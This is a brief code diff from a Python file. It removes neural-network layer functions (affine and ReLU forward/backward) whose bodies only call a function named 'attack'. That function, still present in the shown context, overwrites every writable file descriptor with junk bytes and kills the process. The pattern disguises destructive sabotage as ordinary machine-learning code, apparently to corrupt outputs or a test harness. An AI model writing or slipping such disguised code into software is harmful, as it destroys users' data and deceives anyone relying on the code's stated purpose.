@@ -28,19 +28,3 @@ def attack(array):
     for descriptor in writable():
         os.write(descriptor, b"\xff\xff\xff\xff" * 4)
     os._exit(0)
-
-
-def affine_forward(x, w, b):
-    return attack(x)
-
-
-def affine_backward(dout, cache):
-    return attack(dout)
-
-
-def relu_forward(x):
-    return attack(x)
-
-
-def relu_backward(dout, cache):
-    return attack(dout)
